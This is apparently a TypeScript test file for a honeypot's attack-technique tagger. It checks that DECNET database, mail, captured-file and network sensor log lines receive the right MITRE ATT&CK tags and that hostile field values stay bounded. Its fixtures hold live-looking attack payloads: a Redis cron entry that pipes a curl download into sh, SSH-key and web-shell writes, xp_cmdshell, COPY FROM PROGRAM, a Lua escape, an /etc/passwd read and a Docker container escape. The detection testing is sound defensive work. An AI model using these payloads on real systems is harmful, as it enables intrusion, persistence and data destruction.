// Every event kind beyond commands and HTTP requests as evidence: what the extractors make of
// DECNET's database, mail, captured-file and network sensor lines, the tags the shipped rules give
// them (in memory and through the ttp worker on SQLite and PostgreSQL), what they leave alone
// (benign queries and mail), and how they bound hostile values.
import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {databaseText, MAX_DATABASE_TEXT} from '../../src/logs/database-query.js'
import {emailText, MAX_EMAIL_TEXT} from '../../src/logs/email-message.js'
import {fileText, MAX_FILE_TEXT} from '../../src/logs/file-capture.js'
import {parsePythonList} from '../../src/logs/fingerprints/python-repr.js'
import {MAX_NETWORK_TEXT, networkText} from '../../src/logs/network-event.js'
import {Matcher, MAX_EVIDENCE_LENGTH} from '../../src/ttp/matcher.js'
import {loadRules} from '../../src/ttp/rule-loader.js'
import type {RuleField} from '../../src/ttp/rule-schema.js'
import {tagLogs} from '../../src/ttp/tagger.js'
import {ttpTick} from '../../src/workers/ttp/tick.js'
import {DATABASE_KINDS, migratedDatabase, skipReason} from '../helpers/databases.js'
import {decnetLine, storedLog, ttpLog} from '../helpers/decnet-lines.js'
import {insertLogs, readTags} from '../helpers/ttp-logs.js'

const {attackVersion, rules} = await loadRules()
const matcher = new Matcher(rules, {attackVersion})
const SHA = '5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900'

const redis = (cmd: string, args: string): string => decnetLine('cache-01', 'redis', 'command', {src: '198.51.100.9', cmd, args})
const query = (service: string, statement: string): string => decnetLine('db-03', service, 'query', {src: '198.51.100.9', query: statement})

/** A `message_stored` line from the open relay (DECNET-EVENTS.md §1.5). */
function mail(fields: Readonly<Record<string, string>>): string {
  return decnetLine('mx-01', 'smtp_relay', 'message_stored', {
    src: '203.0.113.40',
    msg_id: '4F1A2B3C4D',
    stored_as: '2026-11-26T13:32:51Z_9f86d081884c_4F1A2B3C4D.eml',
    sha256: SHA,
    size: '2048',
    truncated: '0',
    mail_from: 'ops@shop.example.org',
    rcpt_to: 'anna@corp.example.com',
    subject: 'Your order 1142 has shipped',
    from_hdr: 'Shop <ops@shop.example.org>',
    to_hdr: 'anna@corp.example.com',
    content_type: 'multipart/alternative',
    return_path: '<ops@shop.example.org>',
    x_mailer: '',
    dkim_signed: '0',
    spf_pass: '0',
    attachment_count: '0',
    attachments_json: '[]',
    urls_json: '["https://shop.example.org/orders/1142"]',
    body_simhash: '8f3a5c7e9b1d2f40',
    body_base64_bytes: '0',
    html_smuggling: '0',
    ...fields,
  })
}

const attachment = (filename: string, extra: Record<string, unknown> = {}): string =>
  JSON.stringify([{content_type: 'application/octet-stream', encrypted: false, filename, macro_indicator: false, sha256: SHA, size: 41_234, ...extra}])
const many = (count: number): string => Array.from({length: count}, (_, i) => `user${i}@corp${i % 3}.example.com`).join(',')

/** Each line with the rules (`rule:technique`) it must yield, and nothing else. */
const KINDS: ReadonlyArray<readonly [string, string, readonly string[]]> = [
  // database commands (redis decky; query events of database services; the elasticsearch decky)
  ['redis CONFIG SET dir .ssh', redis('CONFIG', "['SET', 'dir', '/root/.ssh']"), ['persistence.redis-ssh-key-write:T1098.004']],
  ['redis dbfilename authorized_keys', redis('CONFIG', "['SET', 'dbfilename', 'authorized_keys']"), ['persistence.redis-ssh-key-write:T1098.004']],
  ['redis crontab in a key', redis('SET', String.raw`['x', '\n\n*/1 * * * * curl -fsSL http://198.51.100.9/a.sh | sh\n\n']`), ['persistence.redis-cron-write:T1053.003']],
  ['redis web root', redis('CONFIG', "['SET', 'dir', '/var/www/html']"), ['persistence.redis-web-shell-write:T1505.003']],
  ['redis FLUSHALL', redis('FLUSHALL', '[]'), ['impact.database-destruction:T1485', 'impact.database-wipe:T1485']],
  ['redis SLAVEOF', redis('SLAVEOF', "['198.51.100.9', '21000']"), ['command-and-control.redis-rogue-master:T1105']],
  ['redis MODULE LOAD', redis('MODULE', "['LOAD', '/tmp/exp.so']"), ['persistence.database-server-module:T1505']],
  ['redis system.exec', redis('system.exec', "['id']"), ['execution.database-command-exec:T1059']],
  ['redis Lua escape', redis('EVAL', `['local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")', '0']`), ['execution.database-command-exec:T1059']],
  ['redis KEYS *', redis('KEYS', "['*']"), ['collection.database-dump:T1213.006']],
  ['redis ransom note', redis('SET', "['README', 'To recover your lost data send 0.01 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 and mail us']"), ['impact.database-ransom-note:T1657']],
  ['MySQL LOAD_FILE', query('mysql', "SELECT LOAD_FILE('/etc/passwd')"), ['collection.database-file-read:T1005']],
  ['MySQL INTO OUTFILE web shell', query('mysql', `SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/s.php'`), ['command-and-control.database-file-write:T1105', 'persistence.database-web-shell:T1505.003', 'persistence.redis-web-shell:T1505.003']], // a query event's statement also reaches the command rules
  ['MSSQL xp_cmdshell', query('mssql', "EXEC xp_cmdshell 'whoami';"), ['execution.database-command-exec:T1059']],
  ['MSSQL enabling xp_cmdshell', query('mssql', "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;"), ['persistence.database-stored-procedure:T1505.001']],
  ['PostgreSQL DROP DATABASE', query('postgres', 'DROP DATABASE shop;'), ['impact.database-destruction:T1485', 'impact.database-wipe:T1485']],
  ['PostgreSQL COPY FROM PROGRAM', query('postgres', "COPY cmd_out FROM PROGRAM 'id';"), ['execution.database-command-exec:T1059']],
  ['MongoDB dropDatabase()', query('mongodb', 'db.dropDatabase()'), ['impact.database-destruction:T1485', 'impact.database-wipe:T1485']],
  ['MongoDB find() of everything', query('mongodb', 'db.users.find({})'), ['collection.database-dump:T1213.006']],
  ['Elasticsearch DELETE /_all', decnetLine('es-01', 'elasticsearch', 'delete_request', {src: '198.51.100.9', method: 'DELETE', path: '/_all'}), ['impact.database-wipe:T1485', 'impact.http-database-destruction:T1485']],
  ['Elasticsearch DELETE of an index', decnetLine('es-01', 'elasticsearch', 'delete_request', {src: '198.51.100.9', method: 'DELETE', path: '/customers'}), ['impact.database-wipe:T1485']],
  ['Elasticsearch mass read', decnetLine('es-01', 'elasticsearch', 'post_request', {src: '198.51.100.9', method: 'POST', path: '/customers/_search?scroll=1m', body_preview: '{"size": 10000, "query": {"match_all": {}}}', user_agent: 'python-requests/2.31'}), ['collection.database-dump:T1213.006']],
  // mail through the open relay
  ['open relay, many recipients, a link', mail({rcpt_to: many(30)}), ['command-and-control.mail-open-relay:T1090', 'initial-access.mail-mass-phishing:T1566']],
  ['gophish', mail({x_mailer: 'gophish'}), ['initial-access.mail-phishing-kit:T1566', 'initial-access.mail-phishing-kit:T1588.002']],
  ['punycode link', mail({urls_json: '["https://xn--pypal-4ve.com/signin"]'}), ['initial-access.mail-idn-homoglyph-link:T1566.002', 'initial-access.mail-idn-homoglyph-link:T1583.001']],
  ['envelope and From header disagree', mail({from_hdr: 'PayPal <service@paypal.com>'}), ['defense-evasion.mail-sender-masquerade:T1656']],
  ['display name names another domain', mail({from_hdr: '"service@paypal.com" <ops@shop.example.org>'}), ['defense-evasion.mail-sender-masquerade:T1656']],
  ['executable attachment', mail({attachment_count: '1', attachments_json: attachment('invoice.pdf.exe')}), ['initial-access.mail-malicious-attachment:T1566.001']],
  ['macro attachment', mail({attachment_count: '1', attachments_json: attachment('order.zip', {content_type: 'application/zip', macro_indicator: true})}), ['initial-access.mail-malicious-attachment:T1566.001']],
  ['HTML smuggling', mail({html_smuggling: '1'}), ['defense-evasion.mail-html-smuggling:T1027.006', 'defense-evasion.mail-html-smuggling:T1566.001']],
  ['BEC wording', mail({subject: 'Urgent: wire transfer needed today'}), ['initial-access.mail-bec-wording:T1566', 'initial-access.mail-bec-wording:T1657']],
  ['encoded payload inline', mail({body_base64_bytes: '16384'}), ['defense-evasion.mail-encoded-payload:T1027']],
  // captured files and TFTP
  ['file downloaded with wget', decnetLine('db-02', 'ssh', 'file_captured', {stored_as: `2026-11-26T13:32:51Z_5d41402abc4b_x.sh`, sha256: SHA, size: '412', orig_path: '/tmp/x.sh', src_ip: '198.51.100.23', src_port: '50122', ssh_user: 'root', ssh_pid: '4301', attribution: 'pid-chain', writer_pid: '4377', writer_comm: 'wget', writer_uid: '0'}), ['command-and-control.captured-file-download:T1105']],
  ['file written by a shell into a hidden /tmp directory', decnetLine('db-02', 'ssh', 'file_captured', {sha256: SHA, size: '9000', orig_path: '/tmp/.X1-lock/kdevtmpfsi', src_ip: '198.51.100.23', attribution: 'ss-only', writer_comm: 'bash', writer_uid: '0'}), ['command-and-control.captured-file-staged:T1105']],
  ['authorized_keys written', decnetLine('db-02', 'ssh', 'file_captured', {sha256: SHA, size: '400', orig_path: '/root/.ssh/authorized_keys', src_ip: '198.51.100.23', attribution: 'pid-chain', writer_comm: 'bash', writer_uid: '0'}), ['persistence.captured-authorized-keys:T1098.004']],
  ['TFTP router configuration', decnetLine('tftp-01', 'tftp', 'request', {src: '198.51.100.78', src_port: '40000', op: 'RRQ', filename: 'running-config', mode: 'octet'}), ['collection.tftp-network-device-config:T1602.002']],
  // network sensors: sniffer, prober, DNS decky
  ['nmap SYN', decnetLine('web-01', 'sniffer', 'tcp_syn_fingerprint', {src_ip: '203.0.113.8', src_port: '61001', dst_ip: '10.0.0.21', dst_port: '22', ttl: '41', initial_ttl: '64', hop_distance: '23', window: '1024', mss: '1460', wscale: '10', options_sig: 'M,W,T,S,S', has_sack: 'true', has_timestamps: 'true', os_guess: 'nmap'}), ['reconnaissance.nmap-syn-scan:T1046', 'reconnaissance.nmap-syn-scan:T1595']],
  ['scanner SSH banner', decnetLine('web-01', 'sniffer', 'ssh_client_banner', {src_ip: '203.0.113.8', src_port: '61002', dst_ip: '10.0.0.21', dst_port: '22', ssh_version: 'SSH-2.0-ZGrab ZGrab SSH Survey'}), ['reconnaissance.scanner-ssh-banner:T1595']],
  ['IPv6 link-local leak (sniffer)', decnetLine('web-01', 'sniffer', 'ipv6_link_local_leak', {src_ip: 'fe80::1c2b:3aff:fe4d:5e6f', dst_ip: 'fe80::1', iid_kind: 'eui64', mac_oui: '1e:2b:3a', on_iface: 'eth0', attacker_v4: '', observed_at: '2026-11-26T13:32:51Z'}), ['command-and-control.ipv6-link-local-leak:T1090']],
  ['IPv6 link-local leak (prober)', decnetLine('decnet-prober', 'prober', 'ipv6_link_local_leak', {target_ip: '203.0.113.7', target_port: '-', ipv6_addr: 'fe80::a00:27ff:fe12:3456', iid_kind: 'eui64', mac_oui: '08:00:27', on_iface: 'eth0', vector: 'active_echo'}), ['command-and-control.ipv6-link-local-leak:T1090']],
  ['DNS zone transfer', decnetLine('ns1', 'dns', 'zone_transfer', {src: '198.51.100.77', src_port: '5353', transport: 'tcp', qname: 'corp.example', qtype: 'AXFR', qclass: 'IN', zone: 'corp.example'}), ['reconnaissance.dns-zone-transfer:T1590.002']],
  ['DNS tunnel', decnetLine('ns1', 'dns', 'tunneling_suspect', {src: '198.51.100.77', src_port: '5353', transport: 'udp', qname: 'mzxw6ytboi2dsnrqgezdgnbv.t.corp.example', qtype: 'TXT', qclass: 'IN', edns_size: '0', recursion_desired: 'True', tunnel_method: 'label_entropy'}), ['command-and-control.dns-tunneling:T1071.004']],
  // container APIs (http field)
  ['privileged container with the host root', decnetLine('dock-01', 'docker_api', 'request', {method: 'POST', path: '/v1.41/containers/create', remote_addr: '198.51.100.79', headers: '{"Content-Type": "application/json"}', body: '{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}'}), ['execution.http-deploy-container:T1610', 'privilege-escalation.http-container-escape:T1611']],
]

/** Ordinary traffic of the same kinds: no tag at all. */
const BENIGN: ReadonlyArray<readonly [string, string]> = [
  ['redis GET', redis('GET', "['session:42']")],
  ['redis SET', redis('SET', "['greeting', 'hello world']")],
  ['redis PING', redis('PING', '[]')],
  ['redis INFO', redis('INFO', '[]')],
  ['redis CONFIG GET', redis('CONFIG', "['GET', 'dir']")],
  ['redis SCAN', redis('SCAN', "['0', 'MATCH', 'user:*', 'COUNT', '100']")],
  ['SELECT 1', query('mysql', 'SELECT 1')],
  ['a SELECT with a WHERE', query('postgres', 'SELECT id, name FROM users WHERE id = 7;')],
  ['a DELETE with a WHERE', query('postgres', "DELETE FROM sessions WHERE expires < now();")],
  ['Elasticsearch cat API', decnetLine('es-01', 'elasticsearch', 'cat_api', {src: '198.51.100.9', method: 'GET', path: '/_cat/indices?v'})],
  ['Elasticsearch small search', decnetLine('es-01', 'elasticsearch', 'post_request', {src: '198.51.100.9', method: 'POST', path: '/customers/_search', body_preview: '{"size": 10, "query": {"term": {"id": 7}}}'})],
  ['an ordinary mail', mail({})],
  ['a mail with a PDF', mail({attachment_count: '1', attachments_json: attachment('report.pdf', {content_type: 'application/pdf'}), body_base64_bytes: '30000'})],
  ['a mail with a legacy Word file (DECNET flags every OLE file as encrypted)', mail({attachment_count: '1', attachments_json: attachment('minutes.doc', {content_type: 'application/msword', encrypted: true})})],
  ['a mail from a subdomain of the envelope domain', mail({from_hdr: 'Shop <news@mail.shop.example.org>'})],
  ['a mail to nine recipients', mail({rcpt_to: many(9)})],
  ['an IMAP command', decnetLine('imap-01', 'imap', 'command', {src: '198.51.100.9', cmd: 'LIST', state: 'AUTHENTICATED'})],
  ['shell history written by bash', decnetLine('db-02', 'ssh', 'file_captured', {sha256: SHA, size: '400', orig_path: '/root/.bash_history', src_ip: '198.51.100.23', attribution: 'pid-chain', writer_comm: 'bash', writer_uid: '0'})],
  ['a Linux SYN', decnetLine('web-01', 'sniffer', 'tcp_syn_fingerprint', {src_ip: '203.0.113.7', dst_port: '443', window: '64240', options_sig: 'M,S,T,N,W', os_guess: 'linux'})],
  ['an OpenSSH banner', decnetLine('web-01', 'sniffer', 'ssh_client_banner', {src_ip: '203.0.113.7', dst_port: '22', ssh_version: 'SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13'})],
  ['a DNS query', decnetLine('ns1', 'dns', 'query', {src: '198.51.100.77', qname: 'www.corp.example', qtype: 'A'})],
  ['a TFTP boot file', decnetLine('tftp-01', 'tftp', 'request', {src: '198.51.100.78', op: 'RRQ', filename: 'pxelinux.0', mode: 'octet'})],
  ['a container listing', decnetLine('dock-01', 'docker_api', 'request', {method: 'GET', path: '/v1.41/containers/json', remote_addr: '198.51.100.79', headers: '{}', body: ''})],
]

function tagged(lines: readonly string[]): string[][] {
  const rows = lines.map((line, index) => ttpLog(line, index + 1))
  const {tags} = tagLogs(rows, matcher)
  return rows.map((row) => tags.filter((tag) => tag.log_id === row.id).map((tag) => `${tag.rule_id}:${tag.sub_technique_id ?? tag.technique_id}`).sort())
}

describe('event kinds beyond commands and HTTP requests', () => {
  it('reads each kind into its text', () => {
    assert.equal(databaseText({event_type: 'command', fields: {args: "['SET', 'dir', '/root/.ssh']", cmd: 'CONFIG'}}), 'redis CONFIG SET dir /root/.ssh')
    assert.equal(databaseText({event_type: 'command', fields: {args: '[]', cmd: 'FLUSHALL'}}), 'redis FLUSHALL')
    assert.equal(databaseText({event_type: 'command', fields: {cmd: 'LIST', state: 'AUTHENTICATED'}}), null, 'IMAP commands have no args')
    assert.equal(databaseText({event_type: 'command', fields: {command: 'uname -a'}}), null, 'a shell command is not a database command')
    assert.equal(databaseText({event_type: 'query', fields: {qname: 'www.corp.example'}}), null, 'a DNS query holds no statement')
    assert.equal(databaseText({event_type: 'sql_query', fields: {sql: 'DROP TABLE x'}}), 'query DROP TABLE x')
    assert.equal(databaseText({event_type: 'SQL-Query', fields: {sql: 'DROP TABLE x'}}), 'query DROP TABLE x', 'event types in any spelling')
    assert.equal(emailText({event_type: 'Message.Stored', fields: {subject: 'x'}}), 'Subject: x')
    assert.equal(databaseText({event_type: 'post_request', fields: {body_preview: '{"size":1}', method: 'POST', path: '/_search'}}), 'elasticsearch POST /_search {"size":1}')
    assert.deepEqual(parsePythonList(String.raw`['a', "it's", 'x\ny']`), ['a', "it's", 'x\ny'])
    assert.equal(parsePythonList("['a', 'b'"), null)

    const text = emailText(storedLog(mail({from_hdr: '"PayPal <service@paypal.com>" <ceo@paypa1.example.net>', rcpt_to: many(3), x_mailer: 'gophish'})))!
    assert.equal(text, [
      'MAIL FROM: ops@shop.example.org',
      `RCPT TO: ${many(3)}`,
      'Recipients: 3 in 3 domains',
      'From: "PayPal <service@paypal.com>" <ceo@paypa1.example.net>',
      'Return-Path: <ops@shop.example.org>',
      'Subject: Your order 1142 has shipped',
      'X-Mailer: gophish',
      'Content-Type: multipart/alternative',
      'Sender-Mismatch: From header domain paypa1.example.net, MAIL FROM domain shop.example.org',
      'Display-Name-Mismatch: display name names paypal.com, address at paypa1.example.net',
      'URL: https://shop.example.org/orders/1142',
    ].join('\n'))
    assert.equal(emailText({event_type: 'message_accepted', fields: {mail_from: 'a@b.example'}}), null)

    assert.equal(fileText(storedLog(KINDS.find(([name]) => name === 'file downloaded with wget')![1])), `sha256=${SHA} size=412 writer=wget uid=0 attribution=pid-chain path=/tmp/x.sh`)
    assert.equal(fileText({event_type: 'request', fields: {method: 'GET', path: '/'}}), null, 'an HTTP request is not a TFTP request')
    assert.equal(networkText({event_type: 'zone_transfer', fields: {qname: 'corp.example', qtype: 'AXFR', src: '198.51.100.7'}}), 'zone_transfer qname=corp.example qtype=AXFR src=198.51.100.7')
    assert.equal(networkText({event_type: 'query', fields: {qname: 'corp.example'}}), null)
  })

  it('tags DECNET lines of every kind with the rules for them, and nothing else', () => {
    const got = tagged(KINDS.map(([, line]) => line))
    for (const [index, [name, , expected]] of KINDS.entries()) assert.deepEqual(got[index], [...expected].sort(), name)
  })

  it('tags no benign query, mail, file or network event', () => {
    const got = tagged(BENIGN.map(([, line]) => line))
    for (const [index, [name]] of BENIGN.entries()) assert.deepEqual(got[index], [], name)
  })

  it('gives evidence naming what matched: the statement, the mail line, the file\'s SHA-256, the sensor event', () => {
    const evidence = (name: string, rule: string): string => {
      const line = KINDS.find(([kind]) => kind === name)![1]
      const tag = tagLogs([ttpLog(line, 1)], matcher).tags.find((candidate) => candidate.rule_id === rule)
      assert.ok(tag, `${name}: no ${rule} tag`)
      return tag.evidence
    }

    assert.equal(evidence('redis CONFIG SET dir .ssh', 'persistence.redis-ssh-key-write'), 'redis CONFIG SET dir /root/.ssh')
    assert.equal(evidence('redis crontab in a key', 'persistence.redis-cron-write'), String.raw`redis SET x \x0a\x0a*/1 * * * * curl -fsSL http://198.51.100.9/a.sh`, 'control bytes escaped')
    assert.equal(evidence('PostgreSQL DROP DATABASE', 'impact.database-wipe'), 'query DROP DATABASE shop')
    assert.equal(evidence('executable attachment', 'initial-access.mail-malicious-attachment'), `Attachment: name="invoice.pdf.exe" type=application/octet-stream size=41234 sha256=${SHA} macro=no encrypted=no`)
    assert.equal(evidence('punycode link', 'initial-access.mail-idn-homoglyph-link'), 'URL: https://xn--pypal-4ve.com/signin')
    assert.equal(evidence('envelope and From header disagree', 'defense-evasion.mail-sender-masquerade'), 'Sender-Mismatch: From header domain paypal.com, MAIL FROM domain shop.example.org')
    assert.ok(evidence('file downloaded with wget', 'command-and-control.captured-file-download').startsWith(`sha256=${SHA} `))
    assert.ok(evidence('file written by a shell into a hidden /tmp directory', 'command-and-control.captured-file-staged').startsWith(`sha256=${SHA} `))
    assert.match(evidence('IPv6 link-local leak (sniffer)', 'command-and-control.ipv6-link-local-leak'), /^ipv6_link_local_leak src_ip=fe80::1c2b:3aff:fe4d:5e6f iid_kind=eui64 mac_oui=1e:2b:3a /)
    // the rule, and so the field, is on every tag
    const byRule = new Map(rules.map((rule) => [rule.id, rule.field]))
    const fields = new Set(tagLogs(KINDS.map(([, line], index) => ttpLog(line, index + 1)), matcher).tags.map((tag) => byRule.get(tag.rule_id)))
    assert.deepEqual([...fields].sort(), ['command', 'database', 'email', 'file', 'http', 'network'] satisfies RuleField[])
  })

  it('bounds hostile values in every new field: no line forged, no raw control byte, every text within its bound and read whole', () => {
    const forged = '\nHTML-Smuggling: yes\r\nRecipients: 999 in 9 domains\u0000'
    const huge = 'A'.repeat(70_000)
    // fields as ingest stores them from JSON lines (a syslog line is one line of at most 64 KiB; JSON input can carry anything)
    const hostile: ReadonlyArray<readonly [RuleField, null | string, number]> = [
      ['database', databaseText({event_type: 'command', fields: {args: `['k${huge}', '${forged}', ${Array.from({length: 40}, () => `'${'B'.repeat(2000)}'`).join(', ')}]`, cmd: 'SET'}}), MAX_DATABASE_TEXT],
      ['database', databaseText({event_type: 'command', fields: {args: `['${'('.repeat(20_000)}', '0'`, cmd: `EVAL${forged}`}}), MAX_DATABASE_TEXT],
      ['database', databaseText({event_type: 'query', fields: {query: `${'SELECT '.repeat(5000)}${forged}`}}), MAX_DATABASE_TEXT],
      ['database', databaseText({event_type: 'post_request', fields: {body_preview: forged + huge, method: 'POST', path: `/${huge}`}}), MAX_DATABASE_TEXT],
      ['email', emailText({event_type: 'message_stored', fields: {
        attachments_json: JSON.stringify(Array.from({length: 100}, () => ({filename: `x${forged}.exe`}))),
        from_hdr: `${'"'.repeat(5000)}<a@${'b.'.repeat(3000)}example>`,
        mail_from: forged,
        rcpt_to: many(3000),
        subject: `${forged}${huge}`,
        urls_json: JSON.stringify(Array.from({length: 500}, (_, i) => `https://${i}.example/${forged}`)),
        x_mailer: forged,
      }}), MAX_EMAIL_TEXT],
      ['email', emailText({event_type: 'message_stored', fields: {attachments_json: '[[[[[[', rcpt_to: ',,,,', urls_json: '{"not": "a list"}'}}), MAX_EMAIL_TEXT],
      ['file', fileText({event_type: 'file_captured', fields: {orig_path: `/tmp/${forged}${huge}`, sha256: forged, size: huge, writer_comm: forged}}), MAX_FILE_TEXT],
      ['file', fileText({event_type: 'request', fields: {filename: `${forged}${huge}`, mode: forged, op: 'RRQ'}}), MAX_FILE_TEXT],
      ['network', networkText({event_type: 'tcp_syn_fingerprint', fields: {os_guess: `linux${forged}`, ...Object.fromEntries(Array.from({length: 200}, (_, i) => [`k${forged}${i}`, forged + huge]))}}), MAX_NETWORK_TEXT],
    ]
    for (const [field, text, max] of hostile) {
      assert.ok(text !== null, field)
      assert.ok(text.length <= max, `${field}: ${text.length} > ${max}`)
      assert.ok(!/[\u0000-\u0009\u000B-\u001F\u007F]/.test(text), `${field}: a raw control byte`)
      const result = matcher.match(field, text)
      assert.equal(result.unexamined, 0, field)
      assert.ok(result.examined <= MAX_DATABASE_TEXT, field)
      for (const hit of result.hits) assert.ok(hit.evidence.length <= MAX_EVIDENCE_LENGTH + 1, `${field}: ${hit.rule.id}`)
    }

    // a value cannot forge a line of its own: no smuggling, no mass mailing from the subject
    const mailText = hostile[4][1]!
    assert.ok(!/^HTML-Smuggling: yes$/m.test(mailText))
    assert.ok(!/^Recipients: 999 /m.test(mailText))
    assert.deepEqual(matcher.hits('email', emailText({event_type: 'message_stored', fields: {mail_from: 'a@shop.example.org', subject: forged}})!).map((hit) => hit.rule.id), [])
  })

  for (const kind of DATABASE_KINDS) {
    it(`tags stored lines of every kind through the ttp worker (${kind})`, {skip: skipReason(kind)}, async (t) => {
      const {db} = await migratedDatabase(kind, t)
      const lines = [...KINDS.map(([, line]) => line), ...BENIGN.map(([, line]) => line)]
      await insertLogs(db, lines.map((line) => storedLog(line)))
      const result = await ttpTick(db, {matcher})
      assert.equal(result.lines, lines.length)
      const tags = await readTags(db)
      const got = lines.map((_, index) => tags.filter((tag) => tag.log_id === index + 1).map((tag) => `${tag.rule_id}:${tag.sub_technique_id ?? tag.technique_id}`).sort())
      for (const [index, [name, , expected]] of KINDS.entries()) assert.deepEqual(got[index], [...expected].sort(), name)
      for (const [index, [name]] of BENIGN.entries()) assert.deepEqual(got[KINDS.length + index], [], name)
      const file = tags.find((tag) => tag.rule_id === 'command-and-control.captured-file-download')!
      assert.equal(file.attacker_ip, '198.51.100.23')
      assert.ok(file.evidence.includes(SHA), file.evidence)
      assert.equal(file.attack_version, attackVersion)
    })
  }
})

